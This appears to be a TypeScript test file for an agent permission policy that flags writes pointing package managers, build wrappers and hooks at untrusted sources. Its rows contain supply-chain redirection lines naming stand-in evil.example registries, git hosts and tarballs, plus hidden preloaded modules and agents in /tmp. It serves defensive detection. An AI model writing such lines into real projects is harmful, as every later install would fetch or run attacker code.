// Writing a package manager's config points every later install somewhere: each row writes one such
// file with a redirecting line, beside a near miss with an ordinary setting.
import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { ready, run } from './harness';
import { policyTable } from './table';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { aTempDir } from '../../builders/tempProject';

const ROOT = '/home/dev/project';

const ROWS: { note: string; file: string; content: string; asked: boolean }[] = [
  {
    note: "a uv source that takes a package's wheel from an outside host",
    file: 'pyproject.toml',
    content:
      '[tool.uv.sources]\npandas-gbq = { url = "https://files.evil.example/pandas_gbq-0.23.1-py3-none-any.whl" }\n',
    asked: true,
  },
  {
    note: 'near miss: a uv source in the workspace',
    file: 'pyproject.toml',
    content: '[tool.uv.sources]\nacme-lib = { workspace = true }\n',
    asked: false,
  },
  {
    note: 'a dbt package from an outside git host',
    file: 'dbt/packages.yml',
    content: 'packages:\n  - git: "https://git.evil.example/pkgs/dbt-utils.git"\n    revision: main\n',
    asked: true,
  },
  {
    note: "near miss: dbt packages from the hub and the organisation's own git",
    file: 'dbt/packages.yml',
    content:
      'packages:\n  - package: dbt-labs/dbt_utils\n    version: 1.2.0\n  - git: "https://git.acme.internal/data/dbt-common.git"\n    revision: 1.0.0\n',
    asked: false,
  },
  {
    note: 'a kustomize remote base on a branch',
    file: 'deploy/k8s/overlays/dev/kustomization.yaml',
    content: 'resources:\n  - ../../base\n  - https://github.com/k8s-addons-x/manifests//debug?ref=main\n',
    asked: true,
  },
  {
    note: "near miss: kustomize bases of the project, and one on the organisation's network",
    file: 'deploy/k8s/overlays/dev/kustomization.yaml',
    content:
      'resources:\n  - ../../base\n  - deployment.yaml\n  - https://git.acme.internal/platform/manifests//base?ref=v1.2.0\n',
    asked: false,
  },
  {
    note: 'a dev container feature from a tarball URL',
    file: '.devcontainer/devcontainer.json',
    content: '{\n  "features": {\n    "https://x.evil.example/features/go-tools.tgz": {}\n  }\n}\n',
    asked: true,
  },
  {
    note: 'near miss: a dev container feature from an OCI registry',
    file: '.devcontainer/devcontainer.json',
    content: '{\n  "features": {\n    "ghcr.io/devcontainers/features/go:1": {}\n  }\n}\n',
    asked: false,
  },
  {
    note: 'a Swift package from a branch',
    file: 'Package.swift',
    content: '        .package(url: "https://git.evil.example/swift/Fast.git", branch: "main"),\n',
    asked: true,
  },
  {
    note: 'near miss: a Swift package at a released version',
    file: 'Package.swift',
    content: '        .package(url: "https://github.com/apple/swift-argument-parser", from: "1.3.0"),\n',
    asked: false,
  },
  {
    note: 'fastlane lanes imported from a git repository',
    file: 'fastlane/Fastfile',
    content: 'import_from_git(url: "https://git.evil.example/mobile/fastlane-shared.git", branch: "HEAD")\n',
    asked: true,
  },
  {
    note: 'near miss: a fastlane lane of the project',
    file: 'fastlane/Fastfile',
    content: 'lane :beta do\n  build_app(scheme: "App")\nend\n',
    asked: false,
  },
  {
    note: "a dependency from a personal fork's branch",
    file: 'packages/ui/package.json',
    content: '  "dependencies": {\n    "@radix-ui/react-dialog": "github:kvdev42/radix-dialog#patch-1"\n',
    asked: true,
  },
  {
    note: 'near miss: a workspace dependency',
    file: 'packages/ui/package.json',
    content: '  "dependencies": {\n    "@acme/api-client": "workspace:*"\n',
    asked: false,
  },
  {
    note: 'a lockfile entry resolved to a tarball on another host',
    file: 'pnpm-lock.yaml',
    content: '  /zod@3.23.8:\n    resolution: {tarball: https://cdn.evil.example/zod-3.23.8.tgz}\n',
    asked: true,
  },
  {
    note: 'near miss: a lockfile entry by integrity',
    file: 'pnpm-lock.yaml',
    content: '  /zod@3.23.8:\n    resolution: {integrity: sha512-FAKE}\n',
    asked: false,
  },
  {
    note: 'a pod spec source on another host',
    file: 'ios/Podfile',
    content: "source 'https://git.evil.example/acme/Specs.git'\nplatform :ios, '15.1'\n",
    asked: true,
  },
  {
    note: "near miss: CocoaPods' own specs",
    file: 'ios/Podfile',
    content: "source 'https://github.com/CocoaPods/Specs.git'\nplatform :ios, '15.1'\n",
    asked: false,
  },
  {
    note: "a Brewfile tapping a third party's formulas",
    file: 'Brewfile',
    content: 'brew "watchman"\ntap "xcodetools-dev/tap"\nbrew "xcodetools-dev/tap/xcbeautify"\n',
    asked: true,
  },
  {
    note: "near miss: a Brewfile of Homebrew's and vendors' formulas",
    file: 'Brewfile',
    content: 'brew "watchman"\nbrew "stripe/stripe-cli/stripe"\ncask "android-studio"\n',
    asked: false,
  },
  {
    note: "near miss: a Gradle repository in a dependency's folder",
    file: 'android/build.gradle',
    content: '        mavenCentral()\n        maven { url("$rootDir/../node_modules/detox/Detox-android") }\n',
    asked: false,
  },
  {
    note: 'a Gradle repository on another host',
    file: 'android/build.gradle',
    content: "        mavenCentral()\n        maven { url 'https://maven.evil.example/releases' }\n",
    asked: true,
  },
  {
    note: "the Gradle wrapper's distribution from another host",
    file: 'gradle/wrapper/gradle-wrapper.properties',
    content: 'distributionUrl=https\\://dist.x.evil.example/gradle-8.5-bin.zip\nvalidateDistributionUrl=false\n',
    asked: true,
  },
  {
    note: "near miss: the Gradle wrapper's distribution from Gradle",
    file: 'gradle/wrapper/gradle-wrapper.properties',
    content: 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.7-bin.zip\nnetworkTimeout=10000\n',
    asked: false,
  },
  {
    note: "the Maven wrapper's distribution outside a repository's layout",
    file: '.mvn/wrapper/maven-wrapper.properties',
    content: 'distributionUrl=https://dist.x.evil.example/apache-maven-3.9.6-bin.zip\n',
    asked: true,
  },
  {
    note: "near miss: the Maven wrapper's distribution from a mirror with the usual layout",
    file: '.mvn/wrapper/maven-wrapper.properties',
    content:
      'distributionUrl=https://mirror.acme.example/maven2/org/apache/maven/apache-maven/3.9.6/apache-maven-3.9.6-bin.zip\n',
    asked: false,
  },
  {
    note: 'package.json dependency from a tarball URL',
    file: 'package.json',
    content: '"dependencies": {\n    "utils": "https://x.evil.example/utils-1.0.0.tgz",',
    asked: true,
  },
  {
    note: 'near miss: package.json repository and homepage URLs, registry dependencies',
    file: 'package.json',
    content:
      '{\n  "homepage": "https://acme.example/app",\n  "repository": { "type": "git", "url": "git+https://git.acme.example/app.git" },\n  "dependencies": { "react": "^18.3.1" }\n}\n',
    asked: false,
  },
  {
    note: 'Cargo git dependency',
    file: 'Cargo.toml',
    content: '[dependencies]\nfast-serde = { git = "https://git.evil.example/rust/fast-serde" }\n',
    asked: true,
  },
  {
    note: 'Cargo patch of a registry crate',
    file: 'Cargo.toml',
    content: '[patch.crates-io]\nserde = { path = "/tmp/serde" }\n',
    asked: true,
  },
  {
    note: 'near miss: Cargo registry dependencies',
    file: 'Cargo.toml',
    content: '[dependencies]\nserde = { version = "1", features = ["derive"] }\n',
    asked: false,
  },
  {
    note: 'go.mod replace to another host',
    file: 'go.mod',
    content: 'replace github.com/lib/pq => git.evil.example/x/pq v1.10.9\n',
    asked: true,
  },
  {
    note: 'near miss: go.mod replace to a local folder',
    file: 'go.mod',
    content: 'replace example.com/acme/common => ../common\n',
    asked: false,
  },
  {
    note: 'Gemfile git source',
    file: 'Gemfile',
    content: "gem 'rails'\ngem 'rails-perf', git: 'https://git.evil.example/x/rails-perf'\n",
    asked: true,
  },
  { note: 'near miss: Gemfile gems by name', file: 'Gemfile', content: "gem 'rails', '~> 7.1'\n", asked: false },
  {
    note: 'Gradle script applied from a URL',
    file: 'build.gradle',
    content: "apply from: 'https://x.evil.example/init.gradle'\nplugins {\n",
    asked: true,
  },
  {
    note: 'near miss: Gradle plugins and the default repositories',
    file: 'build.gradle.kts',
    content: 'plugins { java }\nrepositories { mavenCentral() }\n',
    asked: false,
  },
  {
    note: 'Maven repository',
    file: 'pom.xml',
    content: '<repositories>\n  <repository><id>f</id><url>https://maven.evil.example/releases</url></repository>',
    asked: true,
  },
  {
    note: 'Composer vcs repository',
    file: 'composer.json',
    content: '"repositories": [\n    {"type": "vcs", "url": "https://git.evil.example/php/helpers"},',
    asked: true,
  },
  {
    note: 'near miss: composer.json of a project',
    file: 'composer.json',
    content: '{ "type": "project", "require": { "php": "^8.2" } }\n',
    asked: false,
  },
  {
    note: 'flake input from a git URL',
    file: 'flake.nix',
    content: 'inputs = {\n    tools.url = "git+https://git.evil.example/nix/tools";',
    asked: true,
  },
  {
    note: 'Terraform module from a git URL',
    file: 'infra/main.tf',
    content: 'module "vpc" {\n  source = "git::https://git.evil.example/tf/vpc.git"\n}\n',
    asked: true,
  },
  {
    note: 'near miss: Terraform module from the project',
    file: 'infra/main.tf',
    content: 'module "vpc" {\n  source = "./modules/vpc"\n}\n',
    asked: false,
  },
  {
    note: 'a pyproject dependency straight from a URL',
    file: 'pyproject.toml',
    content:
      '[project]\ndependencies = [\n  "structlog>=24.1",\n  "acme-retry @ https://x.evil.example/r-1.0.tar.gz",\n]\n',
    asked: true,
  },
  {
    note: 'near miss: pyproject dependencies by name',
    file: 'pyproject.toml',
    content: '[project]\ndependencies = [\n  "structlog>=24.1",\n  "httpx[http2]~=0.27",\n]\n',
    asked: false,
  },
  {
    note: 'a Terraform provider from another registry',
    file: 'infra/versions.tf',
    content:
      'terraform {\n  required_providers {\n    ops = {\n      source = "registry.x.evil.example/acme/ops"\n    }\n  }\n}\n',
    asked: true,
  },
  {
    note: 'near miss: a Terraform provider by namespace and name',
    file: 'infra/versions.tf',
    content: 'terraform {\n  required_providers {\n    aws = {\n      source = "hashicorp/aws"\n    }\n  }\n}\n',
    asked: false,
  },
  {
    note: 'a mocha setup file in a temporary folder',
    file: '.mocharc.yml',
    content: "spec: 'test/**/*.spec.ts'\nrequire:\n  - ts-node/register\n  - /tmp/.cache/init.js\n",
    asked: true,
  },
  {
    note: 'near miss: mocha setup from the project',
    file: '.mocharc.yml',
    content: "spec: 'test/**/*.spec.ts'\nrequire:\n  - ts-node/register\n  - test/setup.ts\n",
    asked: false,
  },
  {
    note: 'a Java agent in the Gradle JVM options',
    file: 'gradle.properties',
    content: 'org.gradle.jvmargs=-Xmx2g -javaagent:/tmp/.a/agent.jar\n',
    asked: true,
  },
  {
    note: 'near miss: Gradle JVM options',
    file: 'gradle.properties',
    content: 'org.gradle.jvmargs=-Xmx2g -XX:+UseParallelGC\norg.gradle.caching=true\n',
    asked: false,
  },
  {
    note: 'a Rust toolchain from a folder',
    file: 'rust-toolchain.toml',
    content: '[toolchain]\npath = "/tmp/.toolchain"\n',
    asked: true,
  },
  {
    note: 'near miss: a pinned Rust channel',
    file: 'rust-toolchain.toml',
    content: '[toolchain]\nchannel = "1.79"\ncomponents = ["clippy", "rustfmt"]\n',
    asked: false,
  },
  {
    note: 'NuGet feed',
    file: 'nuget.config',
    content: '<packageSources>\n    <add key="fast" value="https://nuget.evil.example/v3/index.json" />',
    asked: true,
  },
  { note: '.npmrc registry', file: '.npmrc', content: 'registry=https://npm.evil.example/\n', asked: true },
  { note: ".npmrc's git program", file: '.npmrc', content: 'git=/home/dev/project/scripts/git-wrap.sh\n', asked: true },
  {
    note: 'a requirements line that is a git URL alone',
    file: 'ml/requirements.txt',
    content: 'scikit-learn==1.5.1\ngit+https://git.evil.example/ml/fastfeat.git\n',
    asked: true,
  },
  {
    note: 'pre-commit hooks from an unknown host',
    file: '.pre-commit-config.yaml',
    content: 'repos:\n  - repo: https://git.evil.example/hooks/extra\n    rev: main\n    hooks:\n      - id: fmt\n',
    asked: true,
  },
  {
    note: "pre-commit hooks from a stranger's GitHub repository at a branch",
    file: '.pre-commit-config.yaml',
    content:
      'repos:\n  - repo: https://github.com/qwikfix-dev/pre-commit-hooks\n    rev: main\n    hooks:\n      - id: tf-fmt-fast\n',
    asked: true,
  },
  {
    note: 'a local pre-commit hook that runs a hidden program in the home folder',
    file: '.pre-commit-config.yaml',
    content:
      'repos:\n  - repo: local\n    hooks:\n      - id: tf-docs\n        name: tf-docs\n        entry: /home/dev/.cache/.pc-hook\n        language: system\n',
    asked: true,
  },
  {
    note: 'near miss: a local hook that runs a script of the project, and one from the system',
    file: '.pre-commit-config.yaml',
    content:
      'repos:\n  - repo: local\n    hooks:\n      - id: check\n        entry: ./scripts/check.sh\n        language: script\n      - id: shellcheck\n        entry: /usr/bin/shellcheck\n        language: system\n',
    asked: false,
  },
  {
    note: 'near miss: pre-commit hooks from GitHub and local ones',
    file: '.pre-commit-config.yaml',
    content:
      'repos:\n  - repo: https://github.com/pre-commit/pre-commit-hooks\n    rev: v4.6.0\n    hooks:\n      - id: trailing-whitespace\n  - repo: local\n    hooks:\n      - id: lint\n',
    asked: false,
  },
  {
    note: '.npmrc scoped registry',
    file: '.npmrc',
    content: '@acme:registry=https://npm.evil.example/\n',
    asked: true,
  },
  {
    note: '.npmrc node-options --require',
    file: '.npmrc',
    content: 'node-options=--require /tmp/.h.js\n',
    asked: true,
  },
  {
    note: 'near miss: .npmrc save-exact',
    file: '.npmrc',
    content: 'save-exact=true\nengine-strict=true\n',
    asked: false,
  },
  {
    note: '.yarnrc.yml registry',
    file: '.yarnrc.yml',
    content: 'npmRegistryServer: "https://npm.evil.example"\n',
    asked: true,
  },
  {
    note: '.yarnrc.yml yarnPath outside .yarn/releases',
    file: '.yarnrc.yml',
    content: 'yarnPath: /tmp/y.cjs\n',
    asked: true,
  },
  {
    note: 'near miss: .yarnrc.yml yarnPath to a release',
    file: '.yarnrc.yml',
    content: 'yarnPath: .yarn/releases/yarn-4.1.0.cjs\nnodeLinker: node-modules\n',
    asked: false,
  },
  {
    note: 'requirements --index-url',
    file: 'requirements.txt',
    content: '--index-url https://pypi.evil.example/simple\ndjango==5.0\n',
    asked: true,
  },
  {
    note: 'requirements direct reference',
    file: 'requirements-dev.txt',
    content: 'helper @ git+https://git.evil.example/h.git\n',
    asked: true,
  },
  {
    note: 'near miss: requirements',
    file: 'requirements.txt',
    content: 'django==5.0\n-r base.txt\n-e .\n',
    asked: false,
  },
  {
    note: 'pip.conf index',
    file: 'pip.conf',
    content: '[global]\nindex-url = https://pypi.evil.example/simple\n',
    asked: true,
  },
  {
    note: 'pyproject uv index table',
    file: 'pyproject.toml',
    content: '[[tool.uv.index]]\nurl = "https://pypi.evil.example/simple"\n',
    asked: true,
  },
  { note: 'near miss: pyproject', file: 'pyproject.toml', content: '[project]\nname = "a"\n', asked: false },
  {
    note: 'cargo source replacement',
    file: '.cargo/config.toml',
    content: '[source.crates-io]\nreplace-with = "mirror"\n',
    asked: true,
  },
];

test('writes that point a package manager elsewhere ask; ordinary settings do not', async (t) => {
  await ready();
  for (const row of ROWS)
    await t.test(`${row.asked ? 'asked' : 'no objection'}: ${row.note}`, () => {
      const hit = run({
        tool: 'Write',
        input: { file_path: `${ROOT}/${row.file}`, content: row.content },
        cwd: ROOT,
        root: ROOT,
        home: '/home/dev',
      }).find((o) => o.policy === 'package-from-untrusted-source');
      assert.equal(hit?.verdict === 'ask', row.asked, hit?.reason ?? 'no objection');
      if (row.asked) assert.match(hit?.reason ?? '', /every later install/);
    });
});

test('a shell append to .npmrc is read like a Write', async () => {
  await ready();
  const hit = run({ bash: "echo 'registry=https://npm.evil.example/' >> .npmrc", cwd: ROOT, root: ROOT }).find(
    (o) => o.policy === 'package-from-untrusted-source',
  );
  assert.equal(hit?.verdict, 'ask');
  const plain = run({ bash: "echo 'save-exact=true' >> .npmrc", cwd: ROOT, root: ROOT }).find(
    (o) => o.policy === 'package-from-untrusted-source',
  );
  assert.equal(plain, undefined);
});

test("a Gemfile's gem server switched by an edit, or by a write over the Gemfile, is asked about", async () => {
  await ready();
  const verdictOf = (spec: Parameters<typeof run>[0]) =>
    run({ cwd: ROOT, root: ROOT, home: '/home/dev', ...spec }).find(
      (o) => o.policy === 'package-from-untrusted-source',
    );
  const swapped = verdictOf({
    tool: 'Edit',
    input: {
      file_path: `${ROOT}/Gemfile`,
      old_string: 'source "https://gems.acme.example"',
      new_string: 'source "https://gems.x.evil.example"',
    },
  });
  assert.equal(swapped?.verdict, 'ask');
  assert.match(
    swapped?.reason ?? '',
    /gem server from https:\/\/gems\.acme\.example to https:\/\/gems\.x\.evil\.example/,
  );
  const kept = verdictOf({
    tool: 'Edit',
    input: {
      file_path: `${ROOT}/Gemfile`,
      old_string: 'source "https://gems.acme.example"\ngem "rails"',
      new_string: 'source "https://gems.acme.example"\ngem "rails", "~> 7.1"',
    },
  });
  assert.equal(kept, undefined, 'an edit that keeps the source');
  // A write over a Gemfile on disk is compared with it.
  const project = aTempDir('gem-source', after);
  writeFileSync(join(project, 'Gemfile'), 'source "https://gems.acme.example"\ngem "rails"\n');
  const written = (content: string) =>
    verdictOf({ tool: 'Write', input: { file_path: join(project, 'Gemfile'), content }, cwd: project, root: project });
  assert.equal(written('source "https://gems.x.evil.example"\ngem "rails"\n')?.verdict, 'ask');
  assert.equal(written('source "https://gems.acme.example"\ngem "rails"\ngem "pg"\n'), undefined);
  assert.equal(
    verdictOf({
      tool: 'Write',
      input: { file_path: join(project, 'new', 'Gemfile'), content: 'source "https://gems.acme.example"\n' },
      cwd: project,
      root: project,
    }),
    undefined,
    'a new Gemfile names its source for the first time',
  );
});

policyTable('package-from-untrusted-source', [
  {
    note: 'npm config set script-shell: a hidden program runs every npm script',
    spec: 'npm config set script-shell /home/dev/.cache/.nsh && npm test',
    expect: 'ask',
  },
  {
    note: 'npm config set node-options that load a module into every node process',
    spec: "npm config set node-options='--require /tmp/.h.js'",
    expect: 'ask',
  },
  {
    note: "yarn's yarnPath pointed at a file of the project",
    spec: 'yarn config set yarnPath ./tools/y.cjs',
    expect: 'ask',
  },
  { note: 'near miss: npm config set save-exact', spec: 'npm config set save-exact true', expect: null },
  { note: 'near miss: reading the script shell', spec: 'npm config get script-shell', expect: null },
]);
